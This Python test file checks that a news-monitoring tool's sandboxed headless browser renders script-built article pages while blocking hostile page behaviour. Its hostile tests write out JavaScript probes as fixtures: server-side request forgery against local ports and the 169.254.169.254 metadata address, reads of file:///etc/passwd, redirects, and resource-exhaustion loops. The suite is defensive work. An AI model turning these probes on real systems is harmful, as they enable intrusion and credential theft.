# ruff: noqa: E501 - scripts are one line each
"""Pages that scripts build: read through the system's Chromium, which reaches nothing but what the guarded client fetches for it."""

import os
import shutil
import socket
import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from importlib.util import find_spec
from pathlib import Path

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from casefile.config import parse
from casefile.errors import FetchError
from pipeline.house import furnish
from pipeline.run import run_pass
from pipeline.wiring import client_for
from storage import open_memory
from wire import browser
from wire.browser import NAMES, Browser, Limits
from wire.client import Client, NetworkSettings

THERE = find_spec("playwright") is not None and any(map(shutil.which, NAMES))
with_browser = [
    pytest.mark.slow,
    pytest.mark.skipif(not THERE, reason="needs Chromium (apt-get install chromium) and Playwright (pip install 'casewire[browser]')"),
]
FRAME = '<!doctype html><html><head><title>The Courier</title></head><body><div id="app">Loading …</div>{}</body></html>'
STORY = """fetch("/story.json").then(answer => answer.json()).then(story => {
  document.title = story.title;
  document.getElementById("app").innerHTML = `<article><h1>${story.title}</h1>${story.text.map(line => `<p>${line}</p>`).join("")}</article>`;
});"""
TEXT = [
    "Nora Quist, the owner of Quist Mills LLC, was charged with arson on Monday over the fire at the mill, prosecutors said.",
    "The charge was filed in the district court of the county. It follows an inquiry of eleven months into the company.",
    "Her lawyer said that she would plead not guilty. Neighbors of the mill had asked for a trial since the spring.",
]


class Forbidden:
    """A place on this machine that may not be reached: counts who comes, by TCP and by UDP."""

    def __init__(self) -> None:
        self.came: list[str] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        threading.Thread(target=self._listen, daemon=True).start()
        threading.Thread(target=self._hear, daemon=True).start()

    def _listen(self) -> None:
        try:
            while True:
                connection, _ = self._tcp.accept()
                self.came.append(f"tcp {connection.recv(200)!r}")
                connection.close()
        except OSError:
            return

    def _hear(self) -> None:
        try:
            while True:
                self.came.append(f"udp {self._udp.recv(200)!r}")
        except OSError:
            return

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()


@pytest.fixture
def forbidden() -> Iterator[Forbidden]:
    place = Forbidden()
    yield place
    place.close()


@pytest.fixture
def outlet(httpserver: HTTPServer) -> HTTPServer:
    """An outlet whose pages are built by scripts."""
    httpserver.expect_request("/robots.txt").respond_with_data("User-agent: *\nDisallow: /private/\n", content_type="text/plain")
    httpserver.expect_request("/story.json").respond_with_json({"title": "Mill owner charged", "text": TEXT})
    httpserver.expect_request("/story.js").respond_with_data(STORY, content_type="text/javascript")
    page(httpserver, "/story", '<script src="/story.js"></script>')
    return httpserver


def page(server: HTTPServer, path: str, inside: str) -> str:
    server.expect_request(path).respond_with_data(FRAME.format(inside), content_type="text/html; charset=utf-8")
    return server.url_for(path)


def client(server: HTTPServer) -> Client:
    return Client(NetworkSettings(allow=(f"{server.host}:{server.port}",)))


async def shown(server: HTTPServer, path: str, limits: Limits | None = None) -> str:
    async with client(server) as guarded:
        document = await Browser(guarded, limits=limits).get(server.url_for(path))
    assert document.content_type == "text/html; charset=utf-8"
    return document.body.decode()


def asked(server: HTTPServer) -> list[str]:
    return [f"{request.method} {request.path}" for request, _ in server.log]


def left_behind() -> list[str]:
    """Browsers of ours that still run."""
    lines = [place.read_bytes() for place in Path("/proc").glob("[0-9]*/cmdline") if os.access(place, os.R_OK)]
    return [line.decode("utf-8", "replace")[:100] for line in lines if b"--casewire-page=" in line]


class TestShown:
    pytestmark = with_browser

    async def test_an_article_that_a_script_builds_is_read(self, outlet: HTTPServer) -> None:
        html = await shown(outlet, "/story")
        assert all(line in html for line in TEXT)
        assert "<title>Mill owner charged</title>" in html
        assert asked(outlet) == ["GET /story", "GET /robots.txt", "GET /story.js", "GET /story.json"]
        assert left_behind() == []

    async def test_a_source_whose_list_and_pages_are_built_by_scripts(self, outlet: HTTPServer) -> None:
        script = 'document.getElementById("app").innerHTML = `<h3><a href="/story">Mill owner Nora Quist charged with arson</a></h3>`'
        place = page(outlet, "/news", f"<script>{script}</script>")
        source = f'{{name: courier, kind: listing, url: "{place}", selector: "h3 a", browser: yes}}'
        config = parse(
            f"cases: [{{name: mill-fire, terms: [Quist Mills], entities: [Nora Quist]}}]\nsources: [{source}]\n"
            f'network: {{allow: ["{outlet.host}:{outlet.port}"]}}\n',
            file="test",
        )
        with open_memory() as store:
            async with client_for(config.network) as guarded:
                report = await run_pass(furnish(config, store), guarded, now=datetime.now(UTC))
            assert (report.troubles, report.articles) == ((), 1)
            (held,) = store.articles.all()
        assert held.article.text.splitlines()[0] == TEXT[0]
        assert held.cases == ("mill-fire",)

    async def test_a_script_may_lead_to_another_page_of_the_site_but_not_for_ever(self, outlet: HTTPServer) -> None:
        page(outlet, "/moved", '<script>location.replace("/story")</script>')
        assert TEXT[0] in await shown(outlet, "/moved")
        page(outlet, "/round", '<script>location.href = "/round?" + Math.random()</script>')
        await shown(outlet, "/round", Limits(settle=3))
        assert asked(outlet).count("GET /round") <= Limits().navigations + 1

    async def test_what_is_no_page_comes_as_it_is(self, outlet: HTTPServer) -> None:
        outlet.expect_request("/order.pdf").respond_with_data(b"%PDF-1.7", content_type="application/pdf")
        async with client(outlet) as guarded:
            document = await Browser(guarded).get(outlet.url_for("/order.pdf"))
        assert (document.body, document.content_type) == (b"%PDF-1.7", "application/pdf")


class TestHostile:
    pytestmark = with_browser

    async def test_nothing_forbidden_is_contacted_by_any_way_there_is(self, outlet: HTTPServer, forbidden: Forbidden) -> None:
        ways = "".join(
            f"""
            try {{ fetch("http://{host}/x").catch(() => 0) }} catch (e) {{}}
            try {{ fetch("http://{host}/x", {{method: "POST", mode: "no-cors", body: "x"}}).catch(() => 0) }} catch (e) {{}}
            try {{ new WebSocket("ws://{host}/x") }} catch (e) {{}}
            try {{ new EventSource("http://{host}/x") }} catch (e) {{}}
            try {{ navigator.sendBeacon("http://{host}/x", "x") }} catch (e) {{}}
            try {{ import("http://{host}/x.js").catch(() => 0) }} catch (e) {{}}
            try {{ window.open("http://{host}/x") }} catch (e) {{}}
            try {{ new WebTransport("https://{host}/x") }} catch (e) {{}}
            try {{ new Worker(URL.createObjectURL(new Blob([`importScripts("http://{host}/x.js")`]))) }} catch (e) {{}}
            try {{ new Worker(URL.createObjectURL(new Blob([`fetch("http://{host}/x"); new WebSocket("ws://{host}/x")`]))) }} catch (e) {{}}
            try {{ new SharedWorker(URL.createObjectURL(new Blob([`fetch("http://{host}/x")`]))) }} catch (e) {{}}
            for (const [name, key] of [["img", "src"], ["iframe", "src"], ["script", "src"], ["video", "src"], ["object", "data"], ["embed", "src"]]) {{
              const element = document.createElement(name); element[key] = "http://{host}/x"; document.body.append(element);
            }}
            for (const rel of ["stylesheet", "preload", "prefetch", "preconnect", "dns-prefetch", "prerender", "modulepreload", "icon", "manifest"]) {{
              const link = document.createElement("link"); link.rel = rel; link.as = "script"; link.href = "http://{host}/x"; document.head.append(link);
            }}
            {{ const form = document.createElement("form"); form.action = "http://{host}/x"; form.target = "elsewhere"; document.body.append(form);
              try {{ form.submit() }} catch (e) {{}} }}
            """
            for host in (f"127.0.0.1:{forbidden.port}", f"localhost:{forbidden.port}", f"[::1]:{forbidden.port}", "169.254.169.254")
        )
        stun = f"""try {{ const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{forbidden.port}"}},
            {{urls: "turn:127.0.0.1:{forbidden.port}?transport=tcp", username: "x", credential: "x"}}]}});
            peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer)) }} catch (e) {{}}"""
        worker = 'navigator.serviceWorker && navigator.serviceWorker.register("/worker.js").catch(() => 0);'
        outlet.expect_request("/worker.js").respond_with_data(
            f'self.addEventListener("install", () => fetch("http://127.0.0.1:{forbidden.port}/x"))', content_type="text/javascript"
        )
        page(outlet, "/hostile", f'<script src="/story.js"></script><script>{ways}{stun}{worker}</script>')
        html = await shown(outlet, "/hostile", Limits(requests=300))
        assert TEXT[0] in html
        assert forbidden.came == []
        assert "GET /worker.js" not in asked(outlet)

    @pytest.mark.parametrize("lead", [
        'location.href = "{to}"', 'location.replace("{to}")', 'document.body.innerHTML = `<meta http-equiv="refresh" content="0;url={to}">`',
        '{{ const form = document.createElement("form"); form.action = "{to}"; document.body.append(form); form.submit() }}',
        '{{ const link = document.createElement("a"); link.href = "{to}"; link.download = "x"; document.body.append(link); link.click() }}',
        'location.href = "/away"',
    ])  # fmt: skip
    async def test_nobody_is_led_to_a_forbidden_place(self, outlet: HTTPServer, forbidden: Forbidden, lead: str) -> None:
        to = f"http://127.0.0.1:{forbidden.port}/latest/meta-data"
        outlet.expect_request("/away").respond_with_response(Response(status=302, headers={"Location": to}))
        page(outlet, "/led", f"<p>Here.</p><script>{lead.format(to=to)}</script>")
        html = await shown(outlet, "/led", Limits(settle=2))
        assert "<title>The Courier</title>" in html
        assert ("Here." in html) == ("innerHTML" not in lead)
        assert forbidden.came == []

    async def test_a_redirect_of_the_page_itself_ends_at_the_guard(self, outlet: HTTPServer, forbidden: Forbidden) -> None:
        for number, to in enumerate((f"http://127.0.0.1:{forbidden.port}/", "http://169.254.169.254/latest/", "file:///etc/passwd")):
            outlet.expect_request(f"/away{number}").respond_with_response(Response(status=302, headers={"Location": to}))
            with pytest.raises(FetchError) as caught:
                await shown(outlet, f"/away{number}")
            assert caught.value.stage == "address"
        assert forbidden.came == []

    async def test_files_of_this_machine_stay_unread(self, outlet: HTTPServer) -> None:
        script = """for (const name of ["fetch", "frame"]) { try {
            if (name == "fetch") fetch("file:///etc/passwd").then(a => a.text()).then(t => document.body.append(t)).catch(() => 0);
            else { const f = document.createElement("iframe"); f.src = "file:///etc/passwd"; document.body.append(f);
              f.onload = () => document.body.append(f.contentDocument ? f.contentDocument.body.innerText : "") } } catch (e) {} }"""
        page(outlet, "/files", f"<script>{script}</script>")
        assert "root:" not in await shown(outlet, "/files")

    async def test_robots_txt_holds_for_what_a_page_fetches_and_nothing_is_sent(self, outlet: HTTPServer) -> None:
        script = """fetch("/private/data.json"); fetch("/send", {method: "POST", body: "x"}); navigator.sendBeacon("/beacon", "x");"""
        page(outlet, "/curious", f'<img src="/picture.png"><link rel="stylesheet" href="/style.css"><script>{script}</script>')
        await shown(outlet, "/curious")
        assert asked(outlet) == ["GET /curious", "GET /robots.txt"]

    async def test_a_page_that_asks_without_end_is_answered_for_a_while(self, outlet: HTTPServer) -> None:
        outlet.expect_request("/more").respond_with_handler(lambda _request: Response("x", content_type="text/plain"))
        page(
            outlet,
            "/greedy",
            '<p>Here.</p><script>(async () => { for (let n = 0; ; n++) await fetch("/more?" + n) })().catch(() => 0)</script>',
        )
        assert "Here." in await shown(outlet, "/greedy", Limits(requests=20))
        assert asked(outlet).count("GET /more") <= 20

    @pytest.mark.parametrize(("script", "limits", "says"), [
        ("while (true) {}", Limits(seconds=8), "its scripts were not done within 8 s"),
        ("setInterval(() => { while (true) {} }, 300)", Limits(seconds=8), "its scripts were not done within 8 s"),
        ("window.keep = []; setInterval(() => keep.push(new Uint8Array(4e7).fill(1)), 10)", Limits(megabytes=500, settle=20), "took more than 500 MB"),
        ('document.body.append("x".repeat(200000))', Limits(characters=100_000), "grew to more than 100,000 characters"),
    ])  # fmt: skip
    async def test_a_page_that_takes_too_much_is_ended(self, outlet: HTTPServer, script: str, limits: Limits, says: str) -> None:
        page(outlet, "/much", f"<script>{script}</script>")
        with pytest.raises(FetchError, match=says) as caught:
            await shown(outlet, "/much", limits)
        assert (caught.value.stage, caught.value.permanent) == ("browser", False)
        assert left_behind() == []

    async def test_a_page_that_rewrites_what_it_is_asked_is_read_all_the_same(self, outlet: HTTPServer) -> None:
        script = """Object.defineProperty(HTMLElement.prototype, "innerText", {get: () => "x".repeat(Math.random() * 1e6)});
            Object.defineProperty(Element.prototype, "outerHTML", {get: () => "a lie"}); alert("x"); confirm("y"); onbeforeunload = () => "stay";"""
        page(outlet, "/liar", f'<script>{script}</script><script src="/story.js"></script>')
        assert TEXT[0] in await shown(outlet, "/liar")

    async def test_the_browser_sees_none_of_our_environment(self, outlet: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("CASEWIRE_TEST_TOKEN", "not-to-be-told")
        seen: list[bool] = []

        def look(_request: Request) -> Response:
            ours = [place for place in Path("/proc").glob("[0-9]*") if b"--casewire-page=" in (place / "cmdline").read_bytes()]
            seen.extend(b"not-to-be-told" in (place / "environ").read_bytes() for place in ours)
            return Response("", content_type="text/javascript")

        outlet.expect_request("/look.js").respond_with_handler(look)
        page(outlet, "/looked", '<script src="/look.js"></script>')
        await shown(outlet, "/looked")
        assert seen
        assert not any(seen)


# ---- without one -----------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("missing", "says"), [
    ("playwright", r"needs Playwright: pip install 'casewire\[browser\]'"), ("chromium", "needs the system's Chromium: apt-get install chromium"),
])  # fmt: skip
async def test_what_is_missing_is_told_with_what_to_install(
    outlet: HTTPServer, monkeypatch: pytest.MonkeyPatch, missing: str, says: str
) -> None:
    monkeypatch.setattr(browser, "find_spec", lambda _name: None if missing == "playwright" else object())
    monkeypatch.setenv("PATH", "/nowhere")
    with pytest.raises(FetchError, match=says) as caught:
        async with client(outlet) as guarded:
            await Browser(guarded).get(outlet.url_for("/story"))
    assert (caught.value.stage, caught.value.permanent) == ("browser", False)
    assert asked(outlet) == []


def test_no_browser_unless_a_source_asks_for_one() -> None:
    text = "cases: [{name: a, entities: [B C]}]\nsources: [{name: x, kind: feed, url: 'https://x.example/'%s}]"
    said = [parse(text % more, file="x").sources[0].by_browser for more in ("", ", browser: no", ", browser: yes")]
    assert said == [False, False, True]
